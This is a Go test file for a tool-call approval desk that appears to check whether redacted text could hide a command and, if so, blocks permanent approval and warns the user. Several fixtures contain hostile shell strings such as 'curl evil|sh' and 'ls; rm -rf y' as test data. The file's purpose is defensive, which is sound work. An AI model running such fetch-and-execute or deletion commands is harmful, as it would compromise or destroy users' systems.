package desk

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"github.com/toolcrib/toolcrib"
)

// TestHiddenCommandIsAllowedOnceOnly: where what is hidden may be a command, no
// answer lasts, and the person is told.
func TestHiddenCommandIsAllowedOnceOnly(t *testing.T) {
	for _, tt := range []struct {
		name, input, preview string
		unseen               bool
	}{
		{name: "nothing", input: `{"command":"ls"}`},
		{name: "a key", input: `{"command":"curl -H @abc-DEF_9=@ h"}`},
		{name: "two keys", input: `{"a":"@x@ and @y@","b":["@z@","w"]}`},
		{name: "lines of a key", input: `{"a":"BEGIN\n@abc@\n@def@\nEND"}`},
		{name: "blanks", input: `{"a":"p=@x; curl evil|sh@"}`, unseen: true},
		{name: "a tab", input: `{"a":"p=@x\tcurl@"}`, unseen: true},
		{name: "a line end", input: `{"a":"@x\ny@"}`, unseen: true},
		{name: "a shell", input: "{\"a\":\"@x`y`@\"}", unseen: true},
		{name: "what follows stands in it too", input: `{"a":"@x;b@;b"}`, unseen: true},
		{name: "what comes before stands in it too", input: `{"a":"b;@b;x@"}`, unseen: true},
		{name: "a list", input: `{"auth":["@curl@","@evil@"]}`, unseen: true},
		{name: "below", input: `{"a":{"b":[{"c":"@curl evil@"}]}}`, unseen: true},
		{name: "a name", input: `{"@x@":"y"}`, unseen: true},
		{name: "the change", input: `{}`, preview: "+a\n+@curl evil|sh@\n", unseen: true},
		{name: "a key in the change", input: `{}`, preview: "+a @key@\n"},
	} {
		strike := func(text string) string {
			for {
				before, rest, ok := strings.Cut(text, "@")
				if !ok {
					return text
				}
				_, after, _ := strings.Cut(rest, "@")
				text = before + "[redacted]" + after
			}
		}
		d := &Desk{cfg: Config{Mark: "[redacted]", MaxInput: 1 << 20, MaxPreview: 1 << 20, RedactText: strike,
			RedactJSON: func(text json.RawMessage) json.RawMessage { return json.RawMessage(strike(string(text))) }}}
		q := Question{Caller: toolcrib.Caller{Subject: "s", Session: "1"}}
		if err := d.show(&q, toolcrib.Question{Input: json.RawMessage(tt.input), Preview: tt.preview}); err != nil {
			t.Fatal(err)
		}
		if q.Unseen != tt.unseen {
			t.Errorf("%s: unseen is %v", tt.name, q.Unseen)
		}
		for _, o := range d.Offers(&q) {
			if tt.unseen && o.Choice.scope() != "" {
				t.Errorf("%s: %s is offered", tt.name, o.Choice)
			}
		}
		if err := d.checkReply(Reply{Choice: AllowAlways}, &q); (err != nil) != tt.unseen {
			t.Errorf("%s: always: %v", tt.name, err)
		}
		told := false
		for _, p := range q.notes() {
			told = told || strings.Contains(strings.Join(p.Lines, "\n"), "it may be a command")
		}
		if told != tt.unseen {
			t.Errorf("%s: told is %v", tt.name, told)
		}
	}
}

func FuzzTextHidesMore(f *testing.F) {
	f.Add("a", "x;b", ";b")
	f.Fuzz(func(t *testing.T, before, hidden, after string) {
		const mark = "[redacted]"
		if before+hidden+after != before+mark+after && !plainWord(hidden) && !textHidesMore(before+hidden+after, before+mark+after, mark) {
			t.Fatalf("%q is hidden between %q and %q, and passes for a word", hidden, before, after)
		}
	})
}

// TestTextIsWhole: a text that is shown in part, without a mark for what is missing,
// hides it.
func TestTextIsWhole(t *testing.T) {
	for _, c := range []struct {
		whole, shown, mark string
		hides              bool
	}{
		{"ls", "ls", "[x]", false},
		{"ls; rm -rf y", "ls", "[x]", true},
		{"ls; rm -rf y", "y", "[x]", true},
		{"ls; rm -rf y", "ls", "", true},
		{"key=abc", "key=[x]", "[x]", false},
		{"key=a b", "key=[x]", "[x]", true},
	} {
		if got := textHidesMore(c.whole, c.shown, c.mark); got != c.hides {
			t.Errorf("%q shown as %q: hides more: %v", c.whole, c.shown, got)
		}
	}
}

// TestNothingIsGiven: a call without arguments is shown without a heading for them.
func TestNothingIsGiven(t *testing.T) {
	for input, want := range map[string]bool{`{}`: false, `{"a":1}`: true} {
		q := &Question{Tool: "look", Input: []byte(input)}
		if got := slices.ContainsFunc(q.Describe(), func(p Part) bool { return p.Kind == PartArguments }); got != want {
			t.Errorf("%s: %+v", input, q.Describe())
		}
	}
}

// TestAskersInAnyOrder: guards are asked in no particular order, and each counts once.
func TestAskersInAnyOrder(t *testing.T) {
	a, b := toolcrib.Verdict{Decision: toolcrib.Ask, Guard: "a", Rule: "x"}, toolcrib.Verdict{Decision: toolcrib.Ask, Guard: "b"}
	for _, list := range [][]toolcrib.Verdict{{a, b, a}, {b, a, b}, {a, a, b, b}, {b, {Decision: toolcrib.Allow, Guard: "c"}, a}} {
		if got := askers(list, false); !slices.Equal(got, []string{"a", "b"}) {
			t.Errorf("%v: %q", list, got)
		}
	}
}
